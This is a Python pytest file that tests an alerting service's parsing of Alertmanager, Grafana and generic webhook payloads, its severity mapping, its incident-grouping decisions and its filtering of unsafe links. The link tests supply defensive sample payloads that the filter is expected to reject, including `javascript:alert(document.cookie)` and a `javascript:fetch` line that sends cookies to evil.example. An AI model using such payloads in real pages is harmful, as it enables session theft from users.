"""The alert sources' pure rules: Alertmanager v4, Grafana and generic payloads read into one shape
(and every wrong shape refused naming its JSON path), severities through a source's map, safe links,
and what a notification does to its group (`decide`)."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from app.domain.alerts import (
    DEFAULT_SEVERITY,
    MAX_ALERTS,
    MAX_LINKS,
    MAX_MAP_ENTRIES,
    MAX_TITLE,
    WORD_SEVERITIES,
    Act,
    Alert,
    Decision,
    Notification,
    ShapeError,
    SourceKind,
    decide,
    generic_severity,
    group_digest,
    map_severity,
    map_text,
    parse_map_text,
    parse_severity_map,
    plural,
    read,
    read_alertmanager,
    read_generic,
    read_grafana,
    safe_url,
)


def labelled(instance: str, status: str = "firing", severity: str = "critical", **labels: str) -> dict[str, Any]:
    return {
        "status": status,
        "labels": {"alertname": "HighLatency", "severity": severity, "instance": instance, **labels},
        "annotations": {},
        "generatorURL": f"http://prometheus.example:9090/graph?g0.expr=up%7Binstance%3D%22{instance}%22%7D",
        "fingerprint": f"fp-{instance}",
    }


def payload(**changes: Any) -> dict[str, Any]:
    """Alertmanager's webhook payload version 4, two alerts of one group; `changes` replace top-level keys."""
    body: dict[str, Any] = {
        "version": "4",
        "groupKey": '{}:{alertname="HighLatency"}',
        "truncatedAlerts": 0,
        "status": "firing",
        "receiver": "vigilo",
        "groupLabels": {"alertname": "HighLatency"},
        "commonLabels": {"alertname": "HighLatency", "severity": "critical"},
        "commonAnnotations": {},
        "externalURL": "http://alertmanager.example:9093",
        "alerts": [labelled("api-1"), labelled("api-2")],
    }
    body.update(changes)
    return body


def alert(fingerprint: str, firing: bool = True, severity: str | None = None) -> Alert:
    return Alert(fingerprint, f"HighLatency (instance={fingerprint})", firing, severity, None)


def note(*alerts: Alert, firing: bool = True, severity: str | None = None) -> Notification:
    return Notification("group", firing, "HighLatency", severity, tuple(alerts))


# ---------------------------------------------------------------- links


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("http://prometheus.example:9090/graph", "http://prometheus.example:9090/graph"),
        ("https://grafana.example/d/abc?orgId=1", "https://grafana.example/d/abc?orgId=1"),
        ("  https://grafana.example/x  ", "https://grafana.example/x"),  # surrounding blanks dropped
        ("HTTPS://GRAFANA.EXAMPLE/", "HTTPS://GRAFANA.EXAMPLE/"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(document.cookie)", None),
        (" javascript:alert(1)", None),
        ("data:text/html;base64,PHNjcmlwdD4=", None),
        ("vbscript:msgbox(1)", None),
        ("ftp://files.example/x", None),
        ("//evil.example/x", None),
        ("/relative/path", None),
        ("http://a.example/x javascript:alert(1)", None),  # no blanks inside a link
        ("http://a.example/\nx", None),
        ("https://a.example/" + "x" * 2000, None),  # too long to be a link anyone clicks
        ("", None),
        (None, None),
        (42, None),
        (["http://a.example"], None),
    ],
)
def test_only_http_and_https_become_links(value: object, expected: str | None) -> None:
    assert safe_url(value) == expected


def test_links_are_alertmanagers_page_then_each_alerts_source_and_never_a_script() -> None:
    body = payload(
        externalURL="javascript:fetch('//evil.example/'+document.cookie)",
        alerts=[
            {**labelled("api-1"), "generatorURL": "javascript:alert(1)"},
            labelled("api-2"),
            {**labelled("api-3"), "generatorURL": None},
        ],
    )
    links = read_alertmanager(body).links()
    assert links == [("HighLatency (instance=api-2)", labelled("api-2")["generatorURL"])]

    links = read_alertmanager(payload()).links()
    assert links[0] == ("Alertmanager", "http://alertmanager.example:9093")
    assert [label for label, _ in links[1:]] == ["HighLatency (instance=api-1)", "HighLatency (instance=api-2)"]


def test_links_are_capped() -> None:
    many = [labelled(f"api-{n}") for n in range(MAX_LINKS + 10)]
    links = read_alertmanager(payload(alerts=many)).links()
    assert len(links) == MAX_LINKS
    assert links[0][0] == "Alertmanager"


# ---------------------------------------------------------------- Alertmanager


def test_an_alertmanager_payload_reads_into_a_notification() -> None:
    notification = read_alertmanager(payload())
    assert notification.group_key == '{}:{alertname="HighLatency"}'
    assert notification.firing is True
    assert notification.title == "HighLatency"
    assert notification.severity == "critical"
    assert notification.external_url == "http://alertmanager.example:9093"
    assert notification.message is None
    assert [a.fingerprint for a in notification.alerts] == ["fp-api-1", "fp-api-2"]
    # The labels every alert of the group shares are left out of its name.
    assert [a.name for a in notification.alerts] == ["HighLatency (instance=api-1)", "HighLatency (instance=api-2)"]
    assert notification.digest == group_digest('{}:{alertname="HighLatency"}')


def test_resolved_alerts_are_not_firing() -> None:
    body = payload(alerts=[labelled("api-1"), labelled("api-2", status="resolved")])
    notification = read_alertmanager(body)
    assert [a.fingerprint for a in notification.firing_alerts] == ["fp-api-1"]
    resolved = read_alertmanager(payload(status="resolved", alerts=[labelled("api-1", status="resolved")]))
    assert resolved.firing is False
    assert resolved.firing_alerts == ()


@pytest.mark.parametrize(
    ("changes", "title"),
    [
        ({}, "HighLatency"),
        ({"commonAnnotations": {"summary": "API latency above 2s"}}, "API latency above 2s"),
        ({"commonAnnotations": {"summary": "   "}}, "HighLatency"),  # a blank summary is no summary
        (
            {"groupLabels": {"alertname": "HighLatency", "job": "api"}},
            "HighLatency (job=api)",
        ),
        (
            {"groupLabels": {"alertname": "HighLatency", "job": "api", "cluster": "eu-1"}},
            "HighLatency (cluster=eu-1, job=api)",
        ),
        (
            {
                "groupLabels": {"alertname": "HighLatency", "job": "api"},
                "commonAnnotations": {"summary": "Latency is high on api"},
            },
            "Latency is high on api",
        ),
        # Grouped by job alone: the alertname comes from the labels every alert shares.
        ({"groupLabels": {"job": "api"}}, "HighLatency (job=api)"),
        ({"groupLabels": {"job": "api"}, "commonLabels": {}}, "Alert (job=api)"),
        ({"groupLabels": {}, "commonLabels": {}}, "Alert"),
        ({"commonAnnotations": {"summary": "two\nlines\t and  blanks"}}, "two lines and blanks"),
        ({"commonAnnotations": {"summary": "x" * 500}}, "x" * (MAX_TITLE - 1) + "…"),
    ],
)
def test_the_title_is_the_summary_else_the_alertname_with_the_group_labels(changes: dict[str, Any], title: str) -> None:
    notification = read_alertmanager(payload(**changes))
    assert notification.title == title
    assert len(notification.title) <= MAX_TITLE


def test_an_alerts_name_shows_at_most_three_of_its_own_labels() -> None:
    body = payload(alerts=[labelled("api-1", pod="p", region="r", zone="z")])
    [only] = read_alertmanager(body).alerts
    assert only.name == "HighLatency (instance=api-1, pod=p, region=r)"
    unnamed = {"status": "firing", "labels": {}}
    [bare] = read_alertmanager(payload(alerts=[unnamed])).alerts
    assert bare.name == "alert"


def test_a_fingerprint_is_alertmanagers_else_derived_from_the_labels() -> None:
    given = read_alertmanager(payload(alerts=[{**labelled("api-1"), "fingerprint": "  abc123  "}])).alerts[0]
    assert given.fingerprint == "abc123"
    first = {"status": "firing", "labels": {"alertname": "A", "instance": "x"}}
    reordered = {"status": "firing", "labels": {"instance": "x", "alertname": "A"}}
    other = {"status": "firing", "labels": {"alertname": "A", "instance": "y"}}
    [a, b, c] = read_alertmanager(payload(alerts=[first, reordered, other])).alerts
    assert a.fingerprint == b.fingerprint != c.fingerprint
    long = read_alertmanager(payload(alerts=[{**labelled("api-1"), "fingerprint": "f" * 500}])).alerts[0]
    assert long.fingerprint == "f" * 64


def bad(path: str, value: Any) -> dict[str, Any]:
    """payload() with the value at `path` (dots and [n]) replaced; value ... deletes it."""
    body = payload()
    parts = path.replace("[", ".").replace("]", "").split(".")
    target: Any = body
    for part in parts[:-1]:
        target = target[int(part)] if isinstance(target, list) else target[part]
    last: Any = int(parts[-1]) if isinstance(target, list) else parts[-1]
    if value is ...:
        del target[last]
    else:
        target[last] = value
    return body


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ([], "body"),
        ([payload()], "body"),
        ("a string", "body"),
        (None, "body"),
        (42, "body"),
        (bad("version", "3"), "version"),
        (bad("version", 4), "version"),  # the number is not the string Alertmanager sends
        (bad("version", ...), "version"),
        (bad("groupKey", ...), "groupKey"),
        (bad("groupKey", ""), "groupKey"),
        (bad("groupKey", "   "), "groupKey"),
        (bad("groupKey", 7), "groupKey"),
        (bad("status", ...), "status"),
        (bad("status", "maybe"), "status"),
        (bad("status", "FIRING"), "status"),
        (bad("groupLabels", ["alertname"]), "groupLabels"),
        (bad("groupLabels.alertname", 1), "groupLabels.alertname"),
        (bad("commonLabels", "x"), "commonLabels"),
        (bad("commonLabels.severity", None), "commonLabels.severity"),
        (bad("commonAnnotations", 3), "commonAnnotations"),
        (bad("commonAnnotations", {"summary": {"nested": "no"}}), "commonAnnotations.summary"),
        (bad("alerts", ...), "alerts"),
        (bad("alerts", {"0": labelled("api-1")}), "alerts"),
        (bad("alerts", None), "alerts"),
        (bad("alerts", [labelled("x")] * (MAX_ALERTS + 1)), "alerts"),
        (bad("alerts[0]", "firing"), "alerts[0]"),
        (bad("alerts[1].status", "maybe"), "alerts[1].status"),
        (bad("alerts[1].status", ...), "alerts[1].status"),
        (bad("alerts[0].labels", ["x"]), "alerts[0].labels"),
        (bad("alerts[1].labels.instance", 5), "alerts[1].labels.instance"),
    ],
)
def test_a_wrong_alertmanager_shape_names_its_json_path(body: object, field: str) -> None:
    with pytest.raises(ShapeError) as caught:
        read_alertmanager(body)
    assert caught.value.field == field
    assert str(caught.value)  # a sentence for the sender


def test_optional_parts_may_be_missing_or_null() -> None:
    body = payload()
    for key in ("groupLabels", "commonLabels", "commonAnnotations", "externalURL", "truncatedAlerts", "receiver"):
        del body[key]
    body["alerts"] = [{"status": "firing", "labels": None}]
    notification = read_alertmanager(body)
    assert notification.title == "Alert"
    assert notification.severity is None
    assert notification.links() == []
    assert read_alertmanager(payload(alerts=[])).alerts == ()
    assert read_alertmanager(payload(alerts=[labelled("x")] * MAX_ALERTS)).alerts


def test_the_whole_group_key_tells_groups_apart() -> None:
    # Keys longer than what is kept to show still differ by their digest.
    prefix = "{}:{" + "a" * 2000
    first = read_alertmanager(payload(groupKey=prefix + "1}"))
    second = read_alertmanager(payload(groupKey=prefix + "2}"))
    assert first.digest != second.digest
    assert first.digest == read_alertmanager(payload(groupKey=prefix + "1}")).digest


# ---------------------------------------------------------------- Grafana


def grafana(**changes: Any) -> dict[str, Any]:
    body = payload(
        version="1",
        groupKey='{}/{__grafana_autogenerated__="true"}:{alertname="DiskFull"}',
        groupLabels={"alertname": "DiskFull", "instance": "db-1"},
        commonLabels={"alertname": "DiskFull", "instance": "db-1", "severity": "warning"},
        alerts=[
            {
                "status": "firing",
                "labels": {"alertname": "DiskFull", "instance": "db-1", "severity": "warning"},
                "fingerprint": "a1b2c3",
                "generatorURL": "https://grafana.example/alerting/grafana/abc/view",
            }
        ],
        externalURL="https://grafana.example/",
        title="[FIRING:1] DiskFull (db-1)",
        message="**Firing**\n\nValue: B=97.2\nLabels:\n - alertname = DiskFull",
    )
    body.update(changes)
    return body


@pytest.mark.parametrize(
    ("changes", "title"),
    [
        ({}, "DiskFull (db-1)"),
        ({"title": "[RESOLVED] DiskFull (db-1)"}, "DiskFull (db-1)"),
        ({"title": "[FIRING:12] DiskFull  (db-1, db-2)"}, "DiskFull (db-1, db-2)"),
        ({"title": "Disk nearly full"}, "Disk nearly full"),  # no state prefix: the title as it is
        ({"title": "[unfinished prefix"}, "[unfinished prefix"),
        ({"title": ""}, "DiskFull (instance=db-1)"),  # no title: as Alertmanager's
        ({"title": None}, "DiskFull (instance=db-1)"),
        ({"commonAnnotations": {"summary": "Disk on db-1 is 97% full"}}, "Disk on db-1 is 97% full"),
    ],
)
def test_grafanas_title_loses_its_state_prefix_and_a_summary_wins(changes: dict[str, Any], title: str) -> None:
    assert read_grafana(grafana(**changes)).title == title


def test_grafanas_message_is_kept_and_any_version_is_taken() -> None:
    notification = read_grafana(grafana())
    assert notification.message == "**Firing**\n\nValue: B=97.2\nLabels:\n - alertname = DiskFull"
    assert notification.severity == "warning"
    assert notification.firing_alerts[0].fingerprint == "a1b2c3"
    assert notification.links() == [
        ("Grafana", "https://grafana.example/"),  # Grafana's own page, named as such
        ("DiskFull", "https://grafana.example/alerting/grafana/abc/view"),
    ]
    assert read_grafana(grafana(message="   ")).message is None
    assert read_grafana(grafana(message="m" * 5000)).message == "m" * 2000
    for version in ("1", "4", None):
        assert read_grafana(grafana(version=version)).group_key.endswith('{alertname="DiskFull"}')
    body = grafana()
    del body["version"]
    assert read_grafana(body).title == "DiskFull (db-1)"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"title": 7}, "title"),
        ({"title": ["[FIRING:1] x"]}, "title"),
        ({"message": {"text": "x"}}, "message"),
        ({"groupKey": None}, "groupKey"),
        ({"status": "alerting"}, "status"),
        ({"alerts": "none"}, "alerts"),
    ],
)
def test_a_wrong_grafana_shape_names_its_field(changes: dict[str, Any], field: str) -> None:
    with pytest.raises(ShapeError) as caught:
        read_grafana(grafana(**changes))
    assert caught.value.field == field


def test_read_dispatches_on_the_kind() -> None:
    assert read(SourceKind.ALERTMANAGER, payload(), "unused").title == "HighLatency"
    assert read(SourceKind.GRAFANA, grafana(), "unused").title == "DiskFull (db-1)"
    assert read(SourceKind.GENERIC, {"title": "Disk full"}, "fallback").group_key == "fallback"
    with pytest.raises(ShapeError):  # Grafana's version "1" is not Alertmanager's
        read(SourceKind.ALERTMANAGER, grafana(), "unused")


# ---------------------------------------------------------------- generic


@pytest.mark.parametrize(
    ("body", "group_key", "firing", "title", "severity", "message"),
    [
        ({"title": "Disk full"}, "fallback", True, "Disk full", None, None),
        ({"title": "Disk full", "dedup_key": "disk-db-1"}, "disk-db-1", True, "Disk full", None, None),
        ({"title": "Disk full", "dedup_key": "  disk-db-1  "}, "disk-db-1", True, "Disk full", None, None),
        ({"title": "Disk full", "status": "trigger", "severity": "SEV1"}, "fallback", True, "Disk full", "SEV1", None),
        ({"title": "Disk full", "severity": "sev2"}, "fallback", True, "Disk full", "SEV2", None),
        ({"title": "Disk full", "severity": "critical"}, "fallback", True, "Disk full", "SEV1", None),
        ({"title": "Disk full", "severity": " Warning "}, "fallback", True, "Disk full", "SEV3", None),
        ({"title": "Disk full", "severity": "info"}, "fallback", True, "Disk full", "SEV4", None),
        ({"title": "Disk full", "severity": None}, "fallback", True, "Disk full", None, None),
        ({"title": "Disk full", "details": "97% on /var"}, "fallback", True, "Disk full", None, "97% on /var"),
        ({"title": "Disk full", "details": "   "}, "fallback", True, "Disk full", None, None),
        (
            {"title": "Disk full", "details": {"used": 97, "mount": "/var"}},
            "fallback",
            True,
            "Disk full",
            None,
            '{"mount": "/var", "used": 97}',
        ),
        ({"title": "Disk full", "details": [1, 2]}, "fallback", True, "Disk full", None, "[1, 2]"),
        ({"status": "resolve", "dedup_key": "disk-db-1"}, "disk-db-1", False, "disk-db-1", None, None),
        ({"title": "Disk  full\non db-1", "dedup_key": "k"}, "k", True, "Disk full on db-1", None, None),
        ({"title": "t" * 300}, "fallback", True, "t" * (MAX_TITLE - 1) + "…", None, None),
    ],
)
def test_a_generic_event_reads_into_a_notification(
    body: dict[str, Any], group_key: str, firing: bool, title: str, severity: str | None, message: str | None
) -> None:
    notification = read_generic(body, "fallback")
    assert notification.group_key == group_key
    assert notification.firing is firing
    assert notification.title == title
    assert notification.severity == severity
    assert notification.message == message
    [only] = notification.alerts
    assert only.firing is firing
    assert notification.links() == []


def test_a_generic_events_alert_is_the_same_for_the_same_dedup_key() -> None:
    first = read_generic({"title": "Disk full", "dedup_key": "k"}, "a")
    again = read_generic({"title": "Disk still full", "dedup_key": "k"}, "b")
    assert first.alerts[0].fingerprint == again.alerts[0].fingerprint
    assert first.digest == again.digest
    # Without a dedup_key each event is its own group.
    assert read_generic({"title": "x"}, "a").digest != read_generic({"title": "x"}, "b").digest


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ([], "body"),
        ("trigger", "body"),
        ({"title": "x", "summary": "x"}, "summary"),
        ({"title": "x", "zeta": 1, "alpha": 2}, "alpha"),  # the first unknown field, by name
        ({"title": "x", "status": "acknowledge"}, "status"),
        ({"title": "x", "status": None}, "status"),
        ({"status": "resolve"}, "dedup_key"),
        ({"status": "resolve", "dedup_key": "   "}, "dedup_key"),
        ({"status": "resolve", "dedup_key": ""}, "dedup_key"),
        ({"title": "x", "dedup_key": 12}, "dedup_key"),
        ({"title": "x", "dedup_key": "k" * 256}, "dedup_key"),
        ({}, "title"),
        ({"status": "trigger"}, "title"),
        ({"title": ""}, "title"),
        ({"title": "   "}, "title"),
        ({"title": 5}, "title"),
        ({"title": "x", "severity": "SEV5"}, "severity"),
        ({"title": "x", "severity": "page"}, "severity"),
        ({"title": "x", "severity": 1}, "severity"),
        ({"title": "x", "severity": ""}, "severity"),
    ],
)
def test_a_wrong_generic_shape_names_its_field(body: object, field: str) -> None:
    with pytest.raises(ShapeError) as caught:
        read_generic(body, "fallback")
    assert caught.value.field == field


def test_a_dedup_key_of_255_characters_is_taken() -> None:
    assert read_generic({"title": "x", "dedup_key": "k" * 255}, "f").group_key == "k" * 255


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("SEV1", "SEV1"),
        ("sev4", "SEV4"),
        (" SEV2 ", "SEV2"),
        ("critical", "SEV1"),
        ("ERROR", "SEV2"),
        ("warning", "SEV3"),
        ("Info", "SEV4"),
        ("SEV0", None),
        ("SEV5", None),
        ("page", None),
        ("", None),
    ],
)
def test_generic_severities(value: str, expected: str | None) -> None:
    assert generic_severity(value) == expected


# ---------------------------------------------------------------- severities


CUSTOM = {"page": "SEV2", "ticket": "SEV4"}


@pytest.mark.parametrize(
    ("notification", "severity_map", "default", "expected"),
    [
        (note(alert("a"), severity="critical"), WORD_SEVERITIES, "SEV3", "SEV1"),
        (note(alert("a"), severity="error"), WORD_SEVERITIES, "SEV3", "SEV2"),
        (note(alert("a"), severity="warning"), WORD_SEVERITIES, "SEV4", "SEV3"),
        (note(alert("a"), severity="info"), WORD_SEVERITIES, "SEV3", "SEV4"),
        (note(alert("a"), severity="page"), CUSTOM, "SEV3", "SEV2"),
        # A custom map replaces the words: critical is no longer known there.
        (note(alert("a"), severity="critical"), CUSTOM, "SEV3", "SEV3"),
        (note(alert("a"), severity="disaster"), WORD_SEVERITIES, "SEV4", "SEV4"),
        (note(alert("a")), WORD_SEVERITIES, "SEV2", "SEV2"),
        (note(alert("a"), severity="Critical"), WORD_SEVERITIES, "SEV4", "SEV4"),  # label values are exact
        # The event's own SEVn wins over any map (the generic webhook's severity, a label "SEV1").
        (note(alert("a"), severity="SEV1"), CUSTOM, "SEV4", "SEV1"),
        # No common label: the most severe of the firing alerts' labels the map knows.
        (note(alert("a", severity="warning"), alert("b", severity="critical")), WORD_SEVERITIES, "SEV4", "SEV1"),
        (note(alert("a", severity="info"), alert("b", severity="bogus")), WORD_SEVERITIES, "SEV2", "SEV4"),
        (
            note(alert("a", severity="warning"), alert("b", firing=False, severity="critical")),
            WORD_SEVERITIES,
            "SEV4",
            "SEV3",
        ),
        (note(alert("a", severity="bogus")), WORD_SEVERITIES, "SEV2", "SEV2"),
        (note(alert("a"), severity="critical"), {}, "SEV3", "SEV3"),
    ],
)
def test_severity_through_the_sources_map(
    notification: Notification, severity_map: dict[str, str], default: str, expected: str
) -> None:
    assert map_severity(notification, severity_map, default) == expected


def test_the_default_map_is_the_four_words() -> None:
    assert WORD_SEVERITIES == {"critical": "SEV1", "error": "SEV2", "warning": "SEV3", "info": "SEV4"}
    assert DEFAULT_SEVERITY == "SEV3"
    default = parse_severity_map(None)
    assert default == WORD_SEVERITIES
    default["critical"] = "SEV4"  # a source's map is its own copy
    assert WORD_SEVERITIES["critical"] == "SEV1"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ({"page": "SEV2"}, {"page": "SEV2"}),
        ({" page ": " sev2 "}, {"page": "SEV2"}),
        ({}, {}),
        ({f"k{n}": "SEV1" for n in range(MAX_MAP_ENTRIES)}, {f"k{n}": "SEV1" for n in range(MAX_MAP_ENTRIES)}),
    ],
)
def test_a_severity_map_is_read(raw: dict[str, str], expected: dict[str, str]) -> None:
    assert parse_severity_map(raw) == expected


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        (["critical"], "severity_map"),
        ("critical=SEV1", "severity_map"),
        ({"page": "SEV9"}, "severity_map.page"),
        ({"page": "critical"}, "severity_map.page"),
        ({"page": 1}, "severity_map.page"),
        ({"page": None}, "severity_map.page"),
        ({"ok": "SEV1", "bad": "high"}, "severity_map.bad"),
        ({"": "SEV1"}, "severity_map"),
        ({"   ": "SEV1"}, "severity_map"),
        ({"k" * 65: "SEV1"}, "severity_map"),
        ({f"k{n}": "SEV1" for n in range(MAX_MAP_ENTRIES + 1)}, "severity_map"),
    ],
)
def test_a_wrong_severity_map_names_its_entry(raw: object, field: str) -> None:
    with pytest.raises(ShapeError) as caught:
        parse_severity_map(raw)
    assert caught.value.field == field


def test_the_forms_map_text_round_trips() -> None:
    assert map_text(WORD_SEVERITIES) == "critical = SEV1\nerror = SEV2\nwarning = SEV3\ninfo = SEV4"
    assert parse_map_text(map_text(WORD_SEVERITIES)) == WORD_SEVERITIES
    assert parse_map_text("page=sev2\n\n   \n ticket =  SEV4 ") == {"page": "SEV2", "ticket": "SEV4"}
    assert parse_map_text("") == {}
    with pytest.raises(ShapeError) as caught:
        parse_map_text("page = SEV2\npage SEV1")
    assert caught.value.field == "severity_map"
    assert "Line 2" in str(caught.value)
    with pytest.raises(ShapeError) as caught:
        parse_map_text("page = SEV7")
    assert caught.value.field == "severity_map.page"


# ---------------------------------------------------------------- decide


A, B, C = alert("a"), alert("b"), alert("c")
A_GONE, B_GONE = alert("a", firing=False), alert("b", firing=False)


DECISIONS: list[tuple[str, Notification, frozenset[str] | None, bool, bool, Decision]] = [
    ("new group opens", note(A, B), None, False, True, Decision(Act.OPEN, new=(A, B), firing=2)),
    ("opens only what fires", note(A, B_GONE), None, False, True, Decision(Act.OPEN, new=(A,), firing=1)),
    ("silenced opens nothing", note(A), None, True, True, Decision(Act.SILENCED, new=(A,), firing=1)),
    ("resolved with nothing open", note(A_GONE, firing=False), None, False, True, Decision(Act.NOTHING)),
    ("resolved, silenced, nothing open", note(A_GONE, firing=False), None, True, True, Decision(Act.NOTHING)),
    ("firing with no firing alert", note(A_GONE), None, False, True, Decision(Act.NOTHING)),
    ("firing with no alerts at all", note(), None, False, True, Decision(Act.NOTHING)),
    ("same alerts", note(A, B), frozenset({"a", "b"}), False, True, Decision(Act.SAME, firing=2)),
    ("one more", note(A, B, C), frozenset({"a", "b"}), False, True, Decision(Act.ADD, new=(C,), firing=3)),
    ("one fewer", note(A), frozenset({"a", "b"}), False, True, Decision(Act.ADD, gone=1, firing=1)),
    ("one swapped", note(A, C), frozenset({"a", "b"}), False, True, Decision(Act.ADD, new=(C,), gone=1, firing=2)),
    ("after a noted resolve", note(A), frozenset(), False, False, Decision(Act.ADD, new=(A,), firing=1)),
    (
        "group resolves",
        note(A_GONE, B_GONE, firing=False),
        frozenset({"a", "b"}),
        False,
        True,
        Decision(Act.RESOLVE, gone=2),
    ),
    (
        "group resolves, source does not resolve",
        note(A_GONE, firing=False),
        frozenset({"a", "b"}),
        False,
        False,
        Decision(Act.NOTE_RESOLVED, gone=2),
    ),
    # Maintenance silences what would open, never what follows an open incident.
    ("silenced still adds", note(A, C), frozenset({"a"}), True, True, Decision(Act.ADD, new=(C,), firing=2)),
    ("silenced still resolves", note(firing=False), frozenset({"a"}), True, True, Decision(Act.RESOLVE, gone=1)),
    ("silenced, same", note(A), frozenset({"a"}), True, True, Decision(Act.SAME, firing=1)),
]


@pytest.mark.parametrize(
    ("name", "notification", "known", "silenced", "auto_resolve", "expected"), DECISIONS, ids=[c[0] for c in DECISIONS]
)
def test_decide(
    name: str,
    notification: Notification,
    known: frozenset[str] | None,
    silenced: bool,
    auto_resolve: bool,
    expected: Decision,
) -> None:
    assert decide(notification, known, silenced, auto_resolve) == expected


def test_a_notification_never_opens_a_second_incident_for_an_open_group() -> None:
    notifications = [note(A), note(A, B), note(C), note(), note(A_GONE), note(firing=False)]
    for notification in notifications:
        for known in (frozenset(), frozenset({"a"}), frozenset({"a", "b", "c"})):
            for silenced in (False, True):
                for auto_resolve in (False, True):
                    act = decide(notification, known, silenced, auto_resolve).act
                    assert act not in (Act.OPEN, Act.SILENCED, Act.NOTHING), (notification, known)


def test_decide_reads_real_payloads() -> None:
    first = read_alertmanager(payload(alerts=[labelled("api-1")]))
    opened = decide(first, None, silenced=False, auto_resolve=True)
    assert opened.act is Act.OPEN
    known = frozenset(a.fingerprint for a in opened.new)
    more = read_alertmanager(payload(alerts=[labelled("api-1"), labelled("api-2")]))
    added = decide(more, known, silenced=False, auto_resolve=True)
    assert added.act is Act.ADD
    assert [a.name for a in added.new] == ["HighLatency (instance=api-2)"]
    body = copy.deepcopy(payload(status="resolved"))
    for item in body["alerts"]:
        item["status"] = "resolved"
    assert decide(read_alertmanager(body), known, silenced=False, auto_resolve=True).act is Act.RESOLVE


@pytest.mark.parametrize(("count", "text"), [(0, "0 alerts"), (1, "1 alert"), (2, "2 alerts"), (30, "30 alerts")])
def test_plural(count: int, text: str) -> None:
    assert plural(count, "alert") == text
